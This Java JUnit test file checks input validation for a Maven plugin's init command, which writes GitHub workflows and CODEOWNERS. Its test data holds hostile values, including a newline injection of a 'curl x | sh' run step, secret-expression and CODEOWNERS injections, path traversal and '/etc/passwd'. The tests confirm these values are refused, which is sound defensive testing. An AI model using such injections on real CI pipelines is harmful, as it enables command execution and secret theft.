package dev.lifeos.maven.init;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.lifeos.maven.support.GateFailure;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class InitSettingsTest {
  @Test
  void theImageComesFromTheGitHubRemoteLowerCased() {
    assertThat(InitSettings.defaultImage(Optional.of("git@github.com:Acme/Ledger.git")))
        .isEqualTo("ghcr.io/acme/ledger");
    assertThat(InitSettings.defaultImage(Optional.of("https://github.com/acme/ledger")))
        .isEqualTo("ghcr.io/acme/ledger");
  }

  @Test
  void withoutAGitHubRemoteTheImageIsGitHubsExpression() {
    assertThat(InitSettings.defaultImage(Optional.empty()))
        .isEqualTo("ghcr.io/${{ github.repository }}");
    assertThat(InitSettings.defaultImage(Optional.of("https://gitlab.com/acme/ledger.git")))
        .isEqualTo("ghcr.io/${{ github.repository }}");
  }

  @Test
  void theWorkflowsRefIsThePluginsReleaseTag() {
    assertThat(InitSettings.refFor("0.1.0-SNAPSHOT")).isEqualTo("v0.1.0");
    assertThat(InitSettings.refFor("1.2.3")).isEqualTo("v1.2.3");
  }

  private static InitSettings with(String field, String value) {
    InitSettings s = ServiceScaffoldTest.SETTINGS;
    return new InitSettings(
        field.equals("service") ? value : s.service(),
        s.pluginVersion(),
        field.equals("workflowsRepository") ? value : s.workflowsRepository(),
        field.equals("workflowsRef") ? value : s.workflowsRef(),
        field.equals("javaVersion") ? value : s.javaVersion(),
        field.equals("workingDirectory") ? value : s.workingDirectory(),
        field.equals("image") ? value : s.image(),
        field.equals("deployment") ? value : s.deployment(),
        field.equals("dbOwners") ? value : s.dbOwners(),
        field.equals("approvalsFile") ? value : s.approvalsFile());
  }

  @Test
  void newlineInTheDeploymentThatWouldInjectARunStepIsRefused() {
    InitSettings injected =
        with("deployment", "ledger\n  evil:\n    steps:\n      - run: curl x | sh");

    assertThatThrownBy(() -> ServiceScaffold.of(injected))
        .isInstanceOf(GateFailure.class)
        .hasMessage(
            "-Dlifeos.init.deployment is 'ledger\\n  evil:\\n    steps:\\n      - run: curl x | sh':"
                + " lifeos:init writes it into workflows, CODEOWNERS and the runbook, so it must be a"
                + " Kubernetes Deployment name: letters, digits, '.', '_' and '-'. Nothing was"
                + " written.");
  }

  static Stream<Arguments> hostileValues() {
    return Stream.of(
        Arguments.of("deployment", "ledger' # x"),
        Arguments.of("deployment", "ledger: {a: b}"),
        Arguments.of("deployment", "${{ secrets.KUBE_CONFIG }}"),
        Arguments.of("image", "ghcr.io/acme/ledger\r\n  run: x"),
        Arguments.of("image", "ghcr.io/${{ secrets.REGISTRY_PASSWORD }}"),
        Arguments.of("workflowsRepository", "acme/x@main\n"),
        Arguments.of("workflowsRef", "v1 # ref"),
        Arguments.of("javaVersion", "17'"),
        Arguments.of("workingDirectory", "services/ledger'"),
        Arguments.of("workingDirectory", "../elsewhere"),
        Arguments.of("dbOwners", "@acme/db\n* @attacker"),
        Arguments.of("approvalsFile", "/etc/passwd"),
        Arguments.of("approvalsFile", "db/approvals file.properties"),
        Arguments.of("service", "{{lifeos.image}}"),
        Arguments.of("deployment", "ledger\u2028run: x"),
        Arguments.of("deployment", "\uFEFFledger"));
  }

  @ParameterizedTest
  @MethodSource("hostileValues")
  void everyValueThatCouldEndItsLineQuoteOrCommentIsRefused(String field, String value) {
    assertThatThrownBy(() -> with(field, value).validate())
        .isInstanceOf(GateFailure.class)
        .hasMessageEndingWith("Nothing was written.");
  }

  @Test
  void ordinaryValuesPass() throws GateFailure {
    with("image", "ghcr.io/${{ github.repository }}").validate();
    with("workingDirectory", "services/ledger-api").validate();
    with("dbOwners", "@acme/db-team dba@acme.example").validate();
    with("deployment", "ledger.api_v2").validate();
    with("javaVersion", "21").validate();
  }
}
